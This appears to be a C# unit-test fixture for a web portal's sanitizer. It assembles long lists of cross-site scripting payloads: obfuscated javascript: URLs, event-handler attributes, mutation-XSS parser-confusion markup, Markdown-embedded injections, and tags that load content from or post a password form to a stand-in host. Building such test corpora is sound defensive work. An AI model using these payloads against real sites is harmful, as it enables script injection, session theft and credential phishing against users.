namespace NetworkPortal.UnitTests.Security;

/// <summary>Markup that tries to act on its reader, made of parts: what runs, how its address is written, and where it hides.</summary>
internal static class HostileMarkup
{
    /// <summary>Addresses that run, written as browsers have come to accept them.</summary>
    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "\u0001javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)",
        "javascript\t:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#x6a;&#x61;&#x76;&#x61;&#x73;cript:alert(1)",
        "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript://%0aalert(1)", "javascript:/*--></title></style>*/alert(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "livescript:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
        "blob:https://elsewhere.example/1", "filesystem:https://elsewhere.example/x", "jar:https://elsewhere.example!/x", "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)", "javascript\u0000:alert(1)", "%6aavascript:alert(1)",
    ];

    private static readonly string[] Carriers =
    [
        "<a href=\"{0}\">go</a>", "<a href='{0}'>go</a>", "<img src=\"{0}\">", "<area href=\"{0}\">", "<video src=\"{0}\" poster=\"{0}\"></video>", "<blockquote cite=\"{0}\">x</blockquote>", "<img srcset=\"{0} 1x\">",
    ];

    private static readonly string[] Whole =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//elsewhere.example/x></SCRIPT>", "<script/x>alert(1)</script/y>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script\t\n>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img src=x ONERROR=alert(1)>", "<img src=x on\u0000error=alert(1)>", "<img src=`x` onerror=`alert(1)`>", "<img \"\"\"><img src=x onerror=alert(1)>\">",
        "<p onclick=alert(1)>x</p>", "<p onpointerenter=alert(1) onfocusin=alert(1) tabindex=0>x</p>", "<details open ontoggle=alert(1)><summary>x</summary></details>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>", "<svg><set attributeName=onmouseover to=alert(1)></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></use></svg>", "<svg/onload=alert(1)//", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math href=\"javascript:alert(1)\">x</math>", "<math><maction actiontype=statusline#https://elsewhere.example xlink:href=\"javascript:alert(1)\">x</maction></math>", "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
        "<iframe src=//elsewhere.example></iframe>", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>", "<frameset onload=alert(1)><frame src=x></frameset>", "<object data=\"javascript:alert(1)\"></object>", "<embed src=//elsewhere.example/x.swf>", "<applet code=x></applet>",
        "<base href=//elsewhere.example/>", "<link rel=stylesheet href=//elsewhere.example/x.css>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta charset=utf-7>", "<style>@import '//elsewhere.example/x.css'</style>", "<style>*{background:url(//elsewhere.example)}</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=\"position:fixed;inset:0\">x</p>", "<p style=width:expression(alert(1))>x</p>", "<div style=\"-moz-binding:url(//elsewhere.example)\">x</div>",
        "<form action=//elsewhere.example><input name=password><button>Sign in</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<input onfocus=alert(1) autofocus>", "<select onchange=alert(1)><option>1</select>", "<textarea onfocus=alert(1) autofocus>", "<isindex type=image src=1 onerror=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>", "<dialog open onclose=alert(1)>x</dialog>", "<portal src=//elsewhere.example></portal>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml version=1?><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>&y;", "</p><script>alert(1)</script>", "<a href=x\"onmouseover=\"alert(1)\">x</a>", "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
        // Trees that a second parser builds differently from the first.
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=alert(1)\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">", "<svg><desc><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<table><td><svg><title><style><img src=x onerror=alert(1)></style>",
        "<noscript><style></noscript><img src=x onerror=alert(1)>", "<math><style><img src=x onerror=alert(1)></style></math>", "<svg><textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">", "<p><svg><foreignobject><p><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">", "<div id=\"x\"><x><y><z></div><img src=x onerror=alert(1)>", "<custom-tag onclick=alert(1)>x</custom-tag>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<img src=\"x\" is=\"y\" nonce=\"z\" onload=alert(1)>", "<a href=\"//elsewhere.example\" ping=\"//elsewhere.example\" target=\"_blank\">x</a>", "<a href=x download onauxclick=alert(1)>x</a>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>",
        "<img usemap=#x><map name=x><area href=javascript:alert(1)></map>", "<table background=\"javascript:alert(1)\"><tr><td>x", "<input type=image src=x onerror=alert(1)>", "<bgsound src=javascript:alert(1)>", "<layer src=//elsewhere.example></layer>", "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "\u003cscript\u003ealert(1)\u003c/script\u003e", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e<script>alert(1)</script>", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<\u0000script>alert(1)</script>", "<img src=x onerror=alert(1)\u2028>", "<script>\u2028alert(1)</script\u00a0>",
    ];

    public static IReadOnlyList<string> Html { get; } = [.. Whole, .. Carriers.SelectMany(carrier => Addresses.Select(address => string.Format(carrier, address)))];

    public static IReadOnlyList<string> Markdown { get; } =
    [
        .. Html,
        .. Html.Take(60).SelectMany(html => (string[])[$"- item\n\n  {html}", $"> {html}", $"| a |\n|---|\n| {html} |", $"Text[^1]\n\n[^1]: {html}", $"# {html}", $"*{html}*"]),
        .. Addresses.SelectMany(address => (string[])[$"[go]({address})", $"[go](<{address}>)", $"![picture]({address})", $"<{address}>", $"[go][1]\n\n[1]: {address}", $"[go][1]\n\n[1]: <{address}> \"title\"", $"[![x]({address})]({address})"]),
        "[a](x \"\" onclick=alert(1))", "[a](x 'title\" onmouseover=\"alert(1)')", "![a\" onerror=\"alert(1)](x)", "[\"><script>alert(1)</script>](x)", "`<script>`<script>alert(1)</script>", "```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```\n<script>alert(1)</script>",
        "<https://a\" onmouseover=\"alert(1)>", "https://elsewhere.example/\"onmouseover=alert(1)", "[a](https://x \"a\" b)<img src=x onerror=alert(1)>", "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x", "# a {onclick=alert(1)}", "![a](x){onerror=alert(1)}",
        "<a href=\"`javascript:alert(1)`\">x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>", "\\<script>alert(1)</script>", "<div>\n\n<script>alert(1)</script>\n\n</div>", "<div markdown=1 onclick=alert(1)>*x*</div>",
    ];
}
